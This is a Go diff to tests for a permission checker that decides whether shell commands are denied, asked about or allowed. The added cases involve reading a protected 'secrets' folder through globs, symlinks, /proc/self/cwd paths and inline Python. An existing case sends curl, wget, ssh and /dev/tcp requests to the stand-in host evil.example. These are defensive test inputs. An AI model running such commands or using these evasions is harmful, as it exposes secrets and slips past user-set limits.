@@ -38,6 +38,9 @@ func disk(folders ...string) func(string) (Place, bool) {
 		if rel == "link" {
 			p.Path = ".env"
 		}
+		if below, ok := strings.CutPrefix(rel+"/", "linked/"); ok {
+			p.Path = path.Join("secrets", below)
+		}
 		return p, true
 	}
 }
@@ -128,6 +131,11 @@ func TestCommandRules(t *testing.T) {
 			Deny:  {"echo x > secrets/a", "rm -r secrets", "rm secrets/a", "tee secrets/a", "sed -i s/a/b/ secrets/a", "touch secrets/x", "mv a secrets/b", "cp a secrets/b", "mkdir secrets/x"},
 			Ask:   {"echo > \"$F\"", "rm a.lock", "foo secrets/a"},
 			Allow: {"cat secrets/a", "echo x > b"},
+		}},
+		{"folders that commands look into", Config{Mode: FullAccess, Deny: []string{"read_file(secrets/**)"}}, map[Outcome][]string{
+			Deny:  {"cat secrets/*", "cat secrets/a*.txt", "cat linked/*", "cat linked/a", "cp -r secrets x", "cat /ws/secrets/*", "cd secrets && cat *"},
+			Ask:   {"cat */x", "cat /proc/self/cwd/secrets/x $(echo)x*/y", "python3 -c \"open('secrets/a')\"", "cat $D/*"},
+			Allow: {"cat src/*", "cat *.txt", "python3 -c 'print(1)'", "ls"},
 		}},
 		{"hosts that commands reach", Config{Mode: FullAccess, Deny: []string{"web_fetch(domain:evil.example)"}}, map[Outcome][]string{
 			Deny:  {"curl https://evil.example/x", "curl -s http://a.evil.example:80", "wget evil.example", "ssh u@evil.example ls", "cat < /dev/tcp/evil.example/80"},
